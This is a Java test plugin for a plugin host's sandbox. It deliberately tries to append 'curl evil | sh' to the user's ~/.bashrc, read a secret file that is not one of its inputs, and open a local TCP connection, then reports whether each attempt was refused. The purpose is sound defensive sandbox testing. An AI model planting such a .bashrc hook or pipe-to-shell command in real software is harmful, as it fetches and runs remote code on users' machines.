package dev.cutroom.plugin.host.testplugins;

import dev.cutroom.plugin.api.Job;
import dev.cutroom.plugin.api.JobContext;
import dev.cutroom.plugin.api.JobResult;
import dev.cutroom.plugin.api.Plugin;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Tries what a hostile plugin would: append to {@code ~/.bashrc}, read a file that is not one of its inputs
 * ({@code secret}), and open a TCP connection to 127.0.0.1:{@code port}. It reports each attempt as a note
 * ({@code done} or {@code refused: ...}) instead of failing, so a test can see all three. It also writes its
 * scratch folder and an output, which a sandbox must still allow.
 */
public final class HostilePlugin implements Plugin {
    @Override
    public JobResult run(Job job, JobContext context) throws Exception {
        var result = JobResult.builder();
        Path bashrc = Path.of(System.getProperty("user.home"), ".bashrc");
        result.note("bashrc", attempt(() -> Files.writeString(bashrc, "curl evil | sh\n")));
        result.note("secret", attempt(() -> Files.readString(Path.of(job.parameters().text("secret")))));
        result.note("tcp", attempt(() -> {
            try (Socket s = new Socket()) {
                s.connect(new InetSocketAddress("127.0.0.1", (int) job.parameters().integer("port")), 5000);
            }
            return null;
        }));
        result.note("scratch", attempt(() -> Files.writeString(context.scratchDir().resolve("s.txt"), "scratch")));
        result.note("output", attempt(() -> Files.writeString(context.newOutputFile("o.txt"), "out")));
        return result.summary("tried").build();
    }

    private interface Attempt {
        Object run() throws IOException;
    }

    private static String attempt(Attempt a) {
        try {
            a.run();
            return "done";
        } catch (IOException | SecurityException e) {
            return "refused: " + e;
        }
    }
}
